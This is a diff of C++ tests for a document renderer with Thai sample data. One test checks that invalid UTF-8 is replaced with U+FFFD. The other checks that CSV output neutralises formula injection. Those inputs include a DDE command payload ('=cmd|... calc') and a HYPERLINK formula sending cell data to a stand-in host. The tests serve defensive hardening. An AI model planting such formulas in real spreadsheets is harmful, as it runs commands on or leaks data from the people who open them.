@@ -10,6 +10,7 @@
 #include <optional>
 #include <string>
 
+#include "base/utf8.hpp"
 #include "tests/support/pdf_text.hpp"
 #include "tests/support/temp_dir.hpp"
 
@@ -142,12 +143,66 @@ TEST(Render, RejectsARowNarrowerThanItsTableInEveryFormat) {
     }
 }
 
-TEST(Render, RejectsTextThatIsNotUtf8) {
+// A value stored before the input hygiene, or poisoned in the database, must never make a
+// document fail for good (docs/SECURITY.md, probe 6): each format writes it as U+FFFD.
+TEST(Render, WritesAnyStoredTextAsAValidFileInEveryFormat) {
     Document document = SampleDocument();
-    std::get<Table>(document.blocks[2]).rows[0].cells[0].text = "\xA4\xC5\xCD\xA7";  // TIS-620
-    auto bytes = RenderPdf(document);
-    ASSERT_FALSE(bytes);
-    EXPECT_EQ(bytes.error().fields.at(0).field, "blocks[2].rows[0].cells[0].text");
+    Table& table = std::get<Table>(document.blocks[2]);
+    table.rows[0].cells[0].text = "พนมสารคาม\uFFFF";
+    table.rows[1].cells[0].text = std::string("ก") + '\0' + "ข\x01";
+    table.rows[2].cells[0].text = "\xA4\xC5\xCD\xA7";  // TIS-620
+    table.caption = "ตาราง\xEF\xBF\xBE";               // U+FFFE
+    document.title = "\xED\xA0\x80";                   // a surrogate
+
+    // Each file holds U+FFFD where the stored value held what no file may carry.
+    const std::string csv = RenderCsv(document).value();
+    EXPECT_TRUE(IsValidUtf8(csv));
+    EXPECT_EQ(csv.find('\0'), std::string::npos);
+    EXPECT_THAT(csv, StartsWith(std::string(kBom) + "ตาราง\uFFFD\r\n"));
+    EXPECT_THAT(csv, HasSubstr("\r\nพนมสารคาม\uFFFD,"));
+    EXPECT_THAT(csv, HasSubstr("\r\nก\uFFFDข\uFFFD,"));
+
+    const auto strings = ZipEntry(RenderXlsx(document).value(), "xl/sharedStrings.xml");
+    ASSERT_TRUE(strings);
+    EXPECT_TRUE(IsValidUtf8(*strings));
+    EXPECT_THAT(*strings, HasSubstr("พนมสารคาม\uFFFD"));
+    EXPECT_THAT(*strings, Not(HasSubstr("\uFFFF")));
+    EXPECT_EQ(strings->find_first_of(std::string("\x01\0", 2)), std::string::npos);
+
+    const std::string pdf = RenderPdf(document).value();
+    EXPECT_THAT(pdf, StartsWith("%PDF-"));
+    REQUIRE_COMMAND("pdftotext");
+    const testing::TempDir dir;
+    EXPECT_THAT(PdfPages(pdf, dir).at(0), HasSubstr("พนมสารคาม"));
+}
+
+TEST(RenderCsv, QuotesTextThatASpreadsheetWouldRunAsAFormula) {
+    Document document{.title = "", .provenance = {"=cmd|' /C calc'!A0"}, .blocks = {}};
+    document.blocks.emplace_back(
+        Table{.id = "t",
+              .caption = "",
+              .columns = {{"text", "@ข้อความ", CellKind::kText}, {"n", "ค่า", CellKind::kDecimal}},
+              .rows = {Row{{Cell::Text("=HYPERLINK(\"http://x.example/\"&B3,\"ดู\")"),
+                            Cell::Decimal(-5.2)},
+                           RowRole::kBody},
+                       Row{{Cell::Text("+1+1"), Cell::None()}, RowRole::kBody},
+                       Row{{Cell::Text("-5.20"), Cell::Integer(-3)}, RowRole::kBody},
+                       Row{{Cell::Text("-"), Cell::Decimal(1)}, RowRole::kBody},
+                       Row{{Cell::Text("\tx"), Cell::Decimal(1)}, RowRole::kBody},
+                       Row{{Cell::Text("\uFF1D1+1"), Cell::Decimal(1)}, RowRole::kBody},
+                       Row{{Cell::Text("ก=1"), Cell::Decimal(1)}, RowRole::kBody}},
+              .notes = {}});
+    EXPECT_EQ(RenderCsv(document).value(),
+              std::string(kBom) +
+                  "'@ข้อความ,ค่า\r\n"
+                  "\"'=HYPERLINK(\"\"http://x.example/\"\"&B3,\"\"ดู\"\")\",-5.20\r\n"
+                  "'+1+1,-\r\n"
+                  "-5.20,-3\r\n"
+                  "-,1.00\r\n"
+                  "'\tx,1.00\r\n"
+                  "'\uFF1D1+1,1.00\r\n"
+                  "ก=1,1.00\r\n"
+                  "\r\n'=cmd|' /C calc'!A0\r\n");
 }
 
 TEST(RenderCsv, StartsWithABomAndEndsLinesWithCrlf) {
